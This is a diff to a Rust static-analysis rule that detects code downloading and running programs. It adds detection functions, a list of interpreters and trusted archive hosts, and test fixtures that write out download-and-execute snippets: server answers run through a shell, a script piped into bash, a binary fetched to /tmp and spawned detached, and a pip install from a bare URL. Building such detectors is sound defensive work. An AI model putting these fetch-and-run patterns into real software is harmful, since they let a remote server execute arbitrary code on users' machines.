@@ -8,7 +8,7 @@ use crate::evidence::source::{Argument, Call, Origins};
 use crate::fact::{Confidence, Severity};
 use crate::rules::{FactSink, Rule, RuleMeta, Subject};
 
-use super::source_calls::{evaluates, report_calls, runs_shell, text_of};
+use super::source_calls::{evaluates, named, report_calls, runs_shell, text_of};
 
 /// See the file's first line.
 pub(super) struct SourceDownloadAndExecute;
@@ -17,7 +17,7 @@ static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("
 
 const CARD: &str = r##"
 id = "source-download-and-execute"
-version = 2
+version = 3
 title = "A program is downloaded and run"
 why = "What is fetched at run time was in no review and can change any day."
 fix = "Ship the program or install it as a dependency with a digest."
@@ -84,6 +84,37 @@ path = os.path.join(tempfile.gettempdir(), "update.exe")
 urllib.request.urlretrieve("https://files.test/update.exe", path)
 subprocess.Popen([path])
 '''
+[[examples.fires]]
+note = "What a server answers is a command."
+[examples.fires.files]
+"x.py" = '''
+import requests, subprocess
+task = requests.get("https://files.test/next").text
+subprocess.run(task, shell=True)
+'''
+[[examples.fires]]
+note = "An answer is the input of a shell."
+[examples.fires.files]
+"x.py" = '''
+import urllib.request, subprocess
+text = urllib.request.urlopen("https://files.test/i.sh").read()
+subprocess.run(["bash"], input=text)
+'''
+[[examples.fires]]
+note = "A program under the temporary files is cut loose."
+[examples.fires.files]
+"x.mjs" = '''
+import { writeFileSync, chmodSync } from "fs"; import { spawn } from "child_process";
+const answer = await fetch("https://files.test/part");
+writeFileSync("/tmp/part", Buffer.from(await answer.arrayBuffer())); chmodSync("/tmp/part", 0o755);
+spawn("/tmp/part", [], { detached: true }).unref();'''
+[[examples.fires]]
+note = "A package from an address of its own."
+[examples.fires.files]
+"x.py" = '''
+import subprocess, sys
+subprocess.check_call([sys.executable, "-m", "pip", "install", "https://files.test/kit-1.0.tar.gz"])
+'''
 [[examples.silent]]
 note = "A version that is asked for is part of a command."
 [examples.silent.files]
@@ -139,6 +170,9 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
     if let Some(judged) = starts_fetched_file(call) {
         return Some(judged);
     }
+    if runs_answer(call) || installs_archive(call) {
+        return Some((Severity::High, Confidence::Medium));
+    }
     if evaluates(call) && call.flows.arguments().any(Origins::ANSWER) {
         return Some((Severity::High, Confidence::High));
     }
@@ -151,6 +185,52 @@ fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
     };
     (evaluates(call) && call.arguments.iter().any(fetched)).then_some((Severity::High, Confidence::High))
 }
+
+/// What a server answers is the command, the program of an interpreter, or its input. A command that an answer is only a
+/// part of is not meant.
+fn runs_answer(call: &Call) -> bool {
+    let first = call.arguments.first();
+    let whole = matches!(first, Some(Argument::Name(_) | Argument::Result(_) | Argument::Other));
+    let answered = |origins: Origins| origins.any(Origins::ANSWER) && !origins.any(Origins::COMPOSED);
+    if runs_shell(call) && whole && answered(call.flows.first) {
+        return true;
+    }
+    let starts = call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    let words = first.and_then(text_of).unwrap_or_default();
+    let program = words.split_whitespace().next().unwrap_or_default();
+    let interprets = INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default());
+    let handed = matches!(words.split_whitespace().nth(1), Some("-c" | "-e")) && words.ends_with("{}");
+    starts
+        && ((handed && call.flows.first.any(Origins::ANSWER))
+            || (interprets && !words.contains("{}") && call.callee.starts_with("subprocess.") && fed(call)))
+}
+
+const INTERPRETERS: [&str; 7] = ["bash", "sh", "zsh", "python", "python3", "node", "perl"];
+
+/// Whether an answer is the input of a program.
+fn fed(call: &Call) -> bool {
+    call.flows.rest.any(Origins::ANSWER) && call.text.contains("input=")
+}
+
+/// A package is installed from an archive at an address that no index vouches for.
+fn installs_archive(call: &Call) -> bool {
+    static ARCHIVE: LazyLock<Regex> = LazyLock::new(|| {
+        Regex::new(r"(?i-u)\b(?:pip3?|npm|pnpm|yarn|uv)\s+(?:pip\s+)?(?:install|add|i)\b(?u:[^\n]){0,80}\shttps?://(?:[\w-]+\.)*?(?P<host>[\w-]+\.[a-z]{2,})/(?u:[^\s]){0,200}\.(?:tar\.gz|tgz|zip|whl)\b")
+            .expect("the pattern is fixed and valid")
+    });
+    let starts = runs_shell(call) || call.callee.starts_with("subprocess.") || call.callee.starts_with("child_process.");
+    starts
+        && call.arguments.iter().filter_map(text_of).filter_map(|text| ARCHIVE.captures(text)).any(|found| {
+            let host = found.name("host").map_or("", |host| host.as_str());
+            !KNOWN_ARCHIVES.contains(&host)
+        })
+}
+
+/// Whose archives are packages of their own name.
+const KNOWN_ARCHIVES: [&str; 12] = [
+    "github.com", "githubusercontent.com", "gitlab.com", "pypi.org", "pythonhosted.org", "npmjs.org", "pytorch.org",
+    "huggingface.co", "nvidia.com", "googleapis.com", "pyg.org", "codeberg.org",
+];
 
 /// A file that was just fetched is started. Installers of prebuilt parts do so too: it is worth less unless the file is
 /// named as a program for Windows, which no package manager's prebuilt part is fetched as.
@@ -168,8 +248,24 @@ fn starts_fetched_file(call: &Call) -> Option<(Severity, Confidence)> {
             let lower = text.to_ascii_lowercase();
             [".exe", ".scr", ".bat", ".vbs", ".ps1"].iter().any(|end| lower.trim_end_matches(['"', ' ']).ends_with(end))
         });
-    let severity = if program { Severity::High } else { Severity::Medium };
+    let severity = if program || is_furtive(call) { Severity::High } else { Severity::Medium };
     Some((severity, Confidence::Medium))
+}
+
+/// Whether what is started is cut loose from its parent, shows no window, lies hidden or among the temporary files, or is
+/// a script that an interpreter is given.
+fn is_furtive(call: &Call) -> bool {
+    let loose = ["detached", "start_new_session", "creationflags", "windowsHide", "preexec_fn"];
+    let texts = || call.arguments.iter().filter_map(text_of).map(str::trim);
+    let script = || {
+        texts().next().is_some_and(|text| {
+            let program = text.split_whitespace().next().unwrap_or_default();
+            INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or_default())
+        })
+    };
+    loose.iter().any(|name| named(call, name).is_some_and(|value| !matches!(value, "false" | "False")) || call.text.contains(&format!("{name}=")))
+        || texts().any(|text| text.starts_with("/tmp/") || text.contains("/.") || text.contains("AppData"))
+        || script()
 }
 
 fn is_fetch(callee: &str) -> bool {
